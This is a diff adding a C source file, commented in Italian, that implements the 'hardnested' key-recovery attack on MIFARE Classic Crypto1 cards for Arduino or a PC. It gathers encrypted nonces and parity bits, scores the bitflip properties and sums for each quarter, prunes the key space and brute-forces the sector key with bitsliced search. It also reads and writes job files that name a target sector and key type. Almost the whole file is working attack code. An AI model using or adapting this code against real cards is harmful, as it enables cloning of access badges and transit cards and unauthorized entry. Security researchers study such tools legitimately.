@@ -0,0 +1,480 @@
+/**
+ * MFCUK - Attacco hardnested
+ *
+ * Nei profili p0, p1 contano i valori di (x3, x5, x7) per cui
+ * ks0 ^ ks2 ^ ks4 ^ ks6 ^ ks8 = 1 con x1 = 0 e x1 = 1; q0, q1 i valori di
+ * (x2, x4, x6) per cui ks1 ^ ks3 ^ ks5 ^ ks7 = 1 con x0 = 0 e x0 = 1.
+ * Nel quarto v il primo byte fissa x0 = v0 ^ c0 e x1 = v1 ^ c1(x0), con c
+ * ignoti: la somma del quarto è S = p(8 - q) + (8 - p)q per la coppia
+ * (p_x1, q_x0) corrispondente. La plausibilità di un profilo è quella
+ * della corrispondenza migliore (8 possibili).
+ */
+
+#include "mfcuk_hardnested.h"
+#include "mfcuk_nonce.h"
+#include <string.h>
+#include <math.h>
+
+#ifdef ARDUINO
+#include <Arduino.h>
+#define HN_LOG(...) Serial.printf(__VA_ARGS__)
+#else
+#include <stdio.h>
+#define HN_LOG(...) printf(__VA_ARGS__)
+#endif
+
+// log2 di una probabilità nulla
+#define HN_LOG2_ZERO   (-1.0e9f)
+
+// Byte per quarto e bit della parte bassa di even nella lista
+#define HN_QUARTER     64
+#define HN_EVEN_MASK   ((1UL << HN_EVEN_LOW_BITS) - 1)
+
+// Parti basse di odd tra due chiamate di avanzamento
+#define HN_PROGRESS_ODD  64
+
+// Metà del filtro: fa = 0xd938, fb = 0xf22c, fc = 0xEC57E80A
+#define HN_FA  0xd938
+#define HN_FB  0xf22c
+#define HN_FC  0xEC57E80AUL
+
+// Parti basse per classe: le classi sono le stesse per tutte le carte
+static uint32_t hn_odd_count[HN_CLASSES];
+static uint32_t hn_even_count[HN_CLASSES];
+static float hn_log2_fact[HN_QUARTER + 1];
+static bool hn_tables_ready = false;
+
+// Lane in cui il bit j dell'indice di lane vale 1
+static const uint64_t hn_lane_bits[6] = {
+    0xAAAAAAAAAAAAAAAAULL, 0xCCCCCCCCCCCCCCCCULL, 0xF0F0F0F0F0F0F0F0ULL,
+    0xFF00FF00FF00FF00ULL, 0xFFFF0000FFFF0000ULL, 0xFFFFFFFF00000000ULL,
+};
+
+#define HN_BIT(x, n)  (((x) >> (n)) & 1)
+#define HN_F(x)       crypto1_filter_inline(x)
+
+/**
+ * Proprietà di bitflip: l'ultimo bit entrato (nibble basso del filtro) non
+ * cambia l'uscita di fc se gli altri quattro ingressi, dai bit 0..15 della
+ * metà, la rendono indipendente da esso
+ */
+static uint8_t hn_flip_prop(uint32_t half) {
+    uint32_t i = HN_BIT(HN_FA, half & 0xf) << 3 | HN_BIT(HN_FB, (half >> 4) & 0xf) << 2 |
+                 HN_BIT(HN_FB, (half >> 8) & 0xf) << 1 | HN_BIT(HN_FA, (half >> 12) & 0xf);
+
+    return HN_BIT(HN_FC, i) == HN_BIT(HN_FC, i | 16);
+}
+
+uint8_t hardnested_odd_class(uint32_t odd) {
+    uint32_t p[2] = {0, 0};
+    uint32_t k0 = HN_F(odd);
+
+    for (uint32_t x1 = 0; x1 < 2; x1++) {
+        uint32_t k2 = k0 ^ HN_F(odd << 1 | x1);
+
+        for (uint32_t x3 = 0; x3 < 2; x3++) {
+            uint32_t k4 = k2 ^ HN_F(odd << 2 | x1 << 1 | x3);
+
+            for (uint32_t x5 = 0; x5 < 2; x5++) {
+                uint32_t k6 = k4 ^ HN_F(odd << 3 | x1 << 2 | x3 << 1 | x5);
+                uint32_t y = odd << 4 | x1 << 3 | x3 << 2 | x5 << 1;
+
+                p[x1] += (k6 ^ HN_F(y)) + (k6 ^ HN_F(y | 1));
+            }
+        }
+    }
+    return (uint8_t)((p[0] * 9 + p[1]) << 1 | hn_flip_prop(odd));
+}
+
+uint8_t hardnested_even_class(uint32_t even) {
+    uint32_t q[2] = {0, 0};
+
+    for (uint32_t x0 = 0; x0 < 2; x0++) {
+        uint32_t k1 = HN_F(even << 1 | x0);
+
+        for (uint32_t x2 = 0; x2 < 2; x2++) {
+            uint32_t k3 = k1 ^ HN_F(even << 2 | x0 << 1 | x2);
+
+            for (uint32_t x4 = 0; x4 < 2; x4++) {
+                uint32_t k5 = k3 ^ HN_F(even << 3 | x0 << 2 | x2 << 1 | x4);
+                uint32_t y = even << 4 | x0 << 3 | x2 << 2 | x4 << 1;
+
+                q[x0] += (k5 ^ HN_F(y)) + (k5 ^ HN_F(y | 1));
+            }
+        }
+    }
+    return (uint8_t)((q[0] * 9 + q[1]) << 1 | hn_flip_prop(even));
+}
+
+void hardnested_tables_init() {
+    if (hn_tables_ready) return;
+
+    crypto1_tables_init();
+    memset(hn_odd_count, 0, sizeof(hn_odd_count));
+    memset(hn_even_count, 0, sizeof(hn_even_count));
+    for (uint32_t low = 0; low < (1UL << HN_ODD_LOW_BITS); low++) {
+        hn_odd_count[hardnested_odd_class(low)]++;
+        if (low < (1UL << HN_EVEN_LOW_BITS)) hn_even_count[hardnested_even_class(low)]++;
+#ifdef ARDUINO
+        if ((low & 0x3fff) == 0) yield();
+#endif
+    }
+
+    hn_log2_fact[0] = 0.0f;
+    for (uint32_t n = 1; n <= HN_QUARTER; n++) hn_log2_fact[n] = hn_log2_fact[n - 1] + log2f((float)n);
+    hn_tables_ready = true;
+}
+
+// ----- Statistiche -----
+
+void hardnested_init(Hardnested* hn, uint32_t uid) {
+    memset(hn, 0, sizeof(*hn));
+    hn->uid = uid;
+}
+
+static inline bool hn_seen(const Hardnested* hn, uint8_t b) {
+    return (hn->seen[b >> 3] >> (b & 7)) & 1;
+}
+
+static inline uint8_t hn_f(const Hardnested* hn, uint8_t b) {
+    return (hn->f[b >> 3] >> (b & 7)) & 1;
+}
+
+void hardnested_add(Hardnested* hn, uint32_t nt_enc, uint8_t par) {
+    static const uint8_t flips[2] = {0x80, 0x40};
+    uint8_t b = nt_enc >> 24;
+    uint8_t f = (par & 1) ^ crypto1_parity(b) ^ 1;
+
+    hn->nonces++;
+    if (hn_seen(hn, b)) {
+        if (hn_f(hn, b) != f) hn->conflicts++;
+        return;
+    }
+
+    hn->seen[b >> 3] |= 1 << (b & 7);
+    hn->f[b >> 3] |= f << (b & 7);
+    hn->seen_count++;
+    hn->quarter_seen[b & 3]++;
+    hn->quarter_sum[b & 3] += f;
+
+    for (uint8_t k = 0; k < 2; k++) {
+        uint8_t other = b ^ flips[k];
+
+        if (!hn_seen(hn, other)) continue;
+        hn->pairs[k]++;
+        if (hn_f(hn, other) != f) hn->flip_diff[k] = true;
+    }
+
+    if (hn->num_check < HN_CHECK_NONCES) {
+        Crypto1EncNonce* n = &hn->check[hn->num_check++];
+
+        n->uid = hn->uid;
+        n->nt_enc = nt_enc;
+        n->par = par;
+    }
+}
+
+// ----- Piano -----
+
+bool hardnested_plan_allows(const HardnestedPlan* plan, uint8_t odd_class, uint8_t even_class) {
+    uint32_t P = odd_class >> 1, Q = even_class >> 1;
+
+    return ((plan->props >> ((odd_class & 1) << 1 | (even_class & 1))) & 1) &&
+           ((plan->pair[P][Q >> 3] >> (Q & 7)) & 1);
+}
+
+/**
+ * Classi con almeno una classe ammessa dall'altra parte (e presente)
+ */
+static void hn_plan_any(const HardnestedPlan* plan, bool* odd_any, bool* even_any) {
+    memset(odd_any, 0, HN_CLASSES * sizeof(bool));
+    memset(even_any, 0, HN_CLASSES * sizeof(bool));
+    for (uint32_t oc = 0; oc < HN_CLASSES; oc++) {
+        if (hn_odd_count[oc] == 0) continue;
+        for (uint32_t ec = 0; ec < HN_CLASSES; ec++) {
+            if (hn_even_count[ec] == 0 || !hardnested_plan_allows(plan, oc, ec)) continue;
+            odd_any[oc] = even_any[ec] = true;
+        }
+    }
+}
+
+// ----- Stima -----
+
+/**
+ * log2 della probabilità che un quarto con S uni su 64 mostri s uni sui
+ * k byte visti (ipergeometrica)
+ */
+static void hn_quarter_log2(uint8_t k, uint8_t s, float* t) {
+    const float* lf = hn_log2_fact;
+    float total = lf[HN_QUARTER] - lf[k] - lf[HN_QUARTER - k];
+
+    for (uint32_t S = 0; S <= HN_QUARTER; S++) {
+        if (s > S || (uint32_t)(k - s) > HN_QUARTER - S) {
+            t[S] = HN_LOG2_ZERO;
+            continue;
+        }
+        t[S] = lf[S] - lf[s] - lf[S - s] + lf[HN_QUARTER - S] - lf[k - s] - lf[HN_QUARTER - S - k + s] - total;
+    }
+}
+
+static inline uint32_t hn_sum(uint32_t p, uint32_t q) {
+    return p * (8 - q) + (8 - p) * q;
+}
+
+static inline float hn_max(float a, float b) {
+    return a > b ? a : b;
+}
+
+/**
+ * Plausibilità del profilo dispari P e pari Q: nel gruppo v0 (quarti v0 e
+ * v0 | 2) x0 è lo stesso e i due quarti hanno x1 diversi
+ */
+static float hn_profile_log2(float t[4][HN_QUARTER + 1], uint32_t P, uint32_t Q) {
+    uint32_t p[2] = {P / 9, P % 9};
+    uint32_t q[2] = {Q / 9, Q % 9};
+    float g[2][2];
+
+    for (uint32_t v0 = 0; v0 < 2; v0++) {
+        for (uint32_t x0 = 0; x0 < 2; x0++) {
+            uint32_t s0 = hn_sum(p[0], q[x0]);
+            uint32_t s1 = hn_sum(p[1], q[x0]);
+
+            g[v0][x0] = hn_max(t[v0][s0] + t[v0 | 2][s1], t[v0][s1] + t[v0 | 2][s0]);
+        }
+    }
+    return hn_max(g[0][0] + g[1][1], g[0][1] + g[1][0]);
+}
+
+/**
+ * Plausibilità delle proprietà di bitflip [odd][even]: se falsa, una coppia
+ * differisce con probabilità 1/4 (odd); per even 1/4 con la proprietà odd
+ * vera, 3/16 con quella falsa
+ */
+static void hn_prop_log2(const Hardnested* hn, float lp[2][2]) {
+    for (uint32_t po = 0; po < 2; po++) {
+        float lo, le;
+
+        if (po) lo = hn->flip_diff[0] ? HN_LOG2_ZERO : 0.0f;
+        else lo = hn->flip_diff[0] ? 0.0f : hn->pairs[0] * log2f(0.75f);
+
+        for (uint32_t pe = 0; pe < 2; pe++) {
+            if (pe) le = hn->flip_diff[1] ? HN_LOG2_ZERO : 0.0f;
+            else le = hn->flip_diff[1] ? 0.0f : hn->pairs[1] * log2f(po ? 0.75f : 0.8125f);
+            lp[po][pe] = lo + le;
+        }
+    }
+}
+
+static int8_t hn_prop_state(bool diff, float log2_false) {
+    if (diff) return 0;
+    return log2_false <= HN_PLAN_LOG2 ? 1 : -1;
+}
+
+void hardnested_estimate(const Hardnested* hn, HardnestedEstimate* est, HardnestedPlan* plan) {
+    float t[4][HN_QUARTER + 1];
+    float lp[2][2];
+    float lq_max = HN_LOG2_ZERO, lp_max = HN_LOG2_ZERO;
+    double soft = 0.0;
+
+    hardnested_tables_init();
+    for (uint32_t v = 0; v < 4; v++) hn_quarter_log2(hn->quarter_seen[v], hn->quarter_sum[v], t[v]);
+    hn_prop_log2(hn, lp);
+    for (uint32_t i = 0; i < 4; i++) lp_max = hn_max(lp_max, lp[i >> 1][i & 1]);
+
+    for (uint32_t P = 0; P < HN_PROFILES; P++) {
+        if (hn_odd_count[P << 1] + hn_odd_count[P << 1 | 1] == 0) continue;
+        for (uint32_t Q = 0; Q < HN_PROFILES; Q++) {
+            if (hn_even_count[Q << 1] + hn_even_count[Q << 1 | 1] == 0) continue;
+            lq_max = hn_max(lq_max, hn_profile_log2(t, P, Q));
+        }
+    }
+
+    if (plan != NULL) {
+        memset(plan, 0, sizeof(*plan));
+        for (uint32_t i = 0; i < 4; i++) {
+            if (lp[i >> 1][i & 1] - lp_max >= HN_PLAN_LOG2) plan->props |= 1 << i;
+        }
+    }
+
+    for (uint32_t P = 0; P < HN_PROFILES; P++) {
+        for (uint32_t Q = 0; Q < HN_PROFILES; Q++) {
+            float lq = hn_profile_log2(t, P, Q) - lq_max;
+            bool allowed = plan != NULL && lq >= HN_PLAN_LOG2;
+
+            for (uint32_t i = 0; i < 4; i++) {
+                uint32_t po = i >> 1, pe = i & 1;
+                double n = (double)hn_odd_count[P << 1 | po] * hn_even_count[Q << 1 | pe] * HN_TOP_KEYS;
+                float l = lq + lp[po][pe] - lp_max;
+
+                if (n == 0.0) continue;
+                soft += l >= 0.0f ? n : n * exp2(l);
+                if (allowed && (plan->props >> i) & 1) {
+                    plan->pair[P][Q >> 3] |= 1 << (Q & 7);
+                    plan->keys += (uint64_t)n;
+                }
+            }
+        }
+    }
+
+    if (plan != NULL) {
+        bool odd_any[HN_CLASSES], even_any[HN_CLASSES];
+
+        hn_plan_any(plan, odd_any, even_any);
+        for (uint32_t c = 0; c < HN_CLASSES; c++) {
+            if (odd_any[c]) plan->odd_lows += hn_odd_count[c];
+            if (even_any[c]) plan->even_lows += hn_even_count[c];
+        }
+    }
+
+    est->log2_keys = soft > 1.0 ? (float)log2(soft) : 0.0f;
+    est->log2_plan = plan != NULL && plan->keys > 1 ? (float)log2((double)plan->keys) : 0.0f;
+    est->odd_prop = hn_prop_state(hn->flip_diff[0], hn->pairs[0] * log2f(0.75f));
+    est->even_prop = hn_prop_state(hn->flip_diff[1], hn->pairs[1] * log2f(0.8125f));
+    est->complete = hn->seen_count == HN_FIRST_BYTES;
+}
+
+// ----- Forza bruta -----
+
+uint32_t hardnested_even_list(const HardnestedPlan* plan, uint32_t begin, uint32_t end, uint32_t* out, uint32_t max) {
+    bool odd_any[HN_CLASSES], even_any[HN_CLASSES];
+    uint32_t n = 0;
+
+    hardnested_tables_init();
+    hn_plan_any(plan, odd_any, even_any);
+    if (end > (1UL << HN_EVEN_LOW_BITS)) end = 1UL << HN_EVEN_LOW_BITS;
+
+    for (uint32_t e = begin; e < end && n < max; e++) {
+        uint8_t c = hardnested_even_class(e);
+
+        if (even_any[c]) out[n++] = e | (uint32_t)c << HN_EVEN_LOW_BITS;
+    }
+    return n;
+}
+
+/**
+ * Verifica scalare di una chiave trovata dalle lane
+ */
+static bool hn_key_ok(uint64_t key, const Crypto1EncNonce* nonces, uint8_t num_nonces) {
+    for (uint8_t i = 0; i < num_nonces; i++) {
+        uint32_t nt = nonce_decrypt_nt(key, nonces[i].uid, nonces[i].nt_enc);
+
+        if (!nonce_nested_parity_ok(nt, nonces[i].nt_enc, nonces[i].par)) return false;
+    }
+    return true;
+}
+
+/**
+ * I 9 bit alti t delle metà (t0..t3 = bit 20..23 di odd, t4..t8 = bit 19..23
+ * di even) variano sulle lane nei bit bassi e sul blocco negli altri
+ */
+static void hn_load_top(crypto1_bs_t* s, uint32_t base, int lane_bits) {
+    for (int j = 0; j < 9; j++) {
+        int age = j < 4 ? 2 * (HN_ODD_LOW_BITS + j) : 2 * (HN_EVEN_LOW_BITS + j - 4) + 1;
+
+        if (j < lane_bits) s[age] = (crypto1_bs_t)hn_lane_bits[j];
+        else s[age] = HN_BIT(base, j) ? ~(crypto1_bs_t)0 : 0;
+    }
+}
+
+int hardnested_search(const HardnestedPlan* plan, const Crypto1EncNonce* nonces, uint8_t num_nonces,
+                      const uint32_t* even, uint32_t num_even, uint32_t odd_begin, uint32_t odd_end,
+                      hardnested_progress_fn progress, void* ctx, uint64_t* key) {
+    crypto1_bs_t s[CRYPTO1_BS_STATE_BITS];
+    bool odd_any[HN_CLASSES], even_any[HN_CLASSES];
+    int lane_bits = __builtin_ctz(CRYPTO1_BS_LANES);
+    uint64_t tested = 0;
+
+    hardnested_tables_init();
+    hn_plan_any(plan, odd_any, even_any);
+    if (odd_end > (1UL << HN_ODD_LOW_BITS)) odd_end = 1UL << HN_ODD_LOW_BITS;
+
+    for (uint32_t o = odd_begin; o < odd_end; o++) {
+        uint8_t oc = hardnested_odd_class(o);
+
+        if (odd_any[oc]) {
+            for (int i = 0; i < HN_ODD_LOW_BITS; i++) s[2 * i] = HN_BIT(o, i) ? ~(crypto1_bs_t)0 : 0;
+
+            for (uint32_t k = 0; k < num_even; k++) {
+                uint32_t e = even[k] & HN_EVEN_MASK;
+
+                if (!hardnested_plan_allows(plan, oc, (uint8_t)(even[k] >> HN_EVEN_LOW_BITS))) continue;
+                for (int i = 0; i < HN_EVEN_LOW_BITS; i++) s[2 * i + 1] = HN_BIT(e, i) ? ~(crypto1_bs_t)0 : 0;
+
+                for (uint32_t base = 0; base < HN_TOP_KEYS; base += CRYPTO1_BS_LANES) {
+                    crypto1_bs_t mask;
+
+                    hn_load_top(s, base, lane_bits);
+                    mask = crypto1_bs_test_nonces(s, nonces, num_nonces, ~(crypto1_bs_t)0);
+                    while (mask) {
+                        uint32_t t = base + __builtin_ctzll((unsigned long long)mask);
+                        Crypto1State st = {o | (t & 0xf) << HN_ODD_LOW_BITS, e | (t >> 4) << HN_EVEN_LOW_BITS};
+                        uint64_t k64 = crypto1_get_key(&st);
+
+                        if (hn_key_ok(k64, nonces, num_nonces)) {
+                            *key = k64;
+                            return 1;
+                        }
+                        mask &= mask - 1;
+                    }
+                }
+                tested += HN_TOP_KEYS;
+            }
+        }
+
+        if ((o - odd_begin) % HN_PROGRESS_ODD == HN_PROGRESS_ODD - 1) {
+            if (progress != NULL && !progress(tested, ctx)) return -1;
+#ifdef ARDUINO
+            yield();
+#endif
+        }
+    }
+    return 0;
+}
+
+// ----- Stampa e file di lavoro -----
+
+static const char* hn_prop_name(int8_t prop) {
+    return prop < 0 ? "incerta" : (prop ? "vera" : "falsa");
+}
+
+void hardnested_report(const Hardnested* hn, const HardnestedEstimate* est) {
+    HN_LOG("[MFCUK] Hardnested: %u nonce, primi byte %u/%u, conflitti %u\n", (unsigned)hn->nonces,
+           hn->seen_count, HN_FIRST_BYTES, (unsigned)hn->conflicts);
+    HN_LOG("[MFCUK]   Somme per quarto: %u/%u %u/%u %u/%u %u/%u\n", hn->quarter_sum[0], hn->quarter_seen[0],
+           hn->quarter_sum[1], hn->quarter_seen[1], hn->quarter_sum[2], hn->quarter_seen[2],
+           hn->quarter_sum[3], hn->quarter_seen[3]);
+    HN_LOG("[MFCUK]   Bitflip odd %s (%u coppie), even %s (%u coppie)\n", hn_prop_name(est->odd_prop),
+           hn->pairs[0], hn_prop_name(est->even_prop), hn->pairs[1]);
+    HN_LOG("[MFCUK]   Spazio stimato 2^%.1f chiavi, piano 2^%.1f%s\n", est->log2_keys, est->log2_plan,
+           est->complete ? " (esatto)" : "");
+}
+
+int hardnested_job_header(char* buf, size_t size, uint8_t sector, uint8_t key_type) {
+    return snprintf(buf, size, HN_JOB_MAGIC "\ntarget;%u;%c\n", sector, key_type == 0 ? 'A' : 'B');
+}
+
+int hardnested_job_line(char* buf, size_t size, const Crypto1EncNonce* n) {
+    return snprintf(buf, size, "%08lx;%08lx;%x\n", (unsigned long)n->uid, (unsigned long)n->nt_enc, n->par);
+}
+
+int hardnested_job_parse(const char* line, Crypto1EncNonce* n, uint8_t* sector, uint8_t* key_type) {
+    unsigned long uid, nt_enc;
+    unsigned int par, s;
+    char type;
+
+    while (*line == ' ' || *line == '\t') line++;
+    if (*line == '\0' || *line == '\r' || *line == '\n' || *line == '#') return 0;
+
+    if (strncmp(line, "target;", 7) == 0) {
+        if (sscanf(line + 7, "%u;%c", &s, &type) != 2 || (type != 'A' && type != 'B') || s > 255) return -1;
+        *sector = (uint8_t)s;
+        *key_type = type == 'A' ? 0 : 1;
+        return 2;
+    }
+
+    if (sscanf(line, "%8lx;%8lx;%x", &uid, &nt_enc, &par) != 3 || par > 0xf) return -1;
+    n->uid = (uint32_t)uid;
+    n->nt_enc = (uint32_t)nt_enc;
+    n->par = (uint8_t)par;
+    return 1;
+}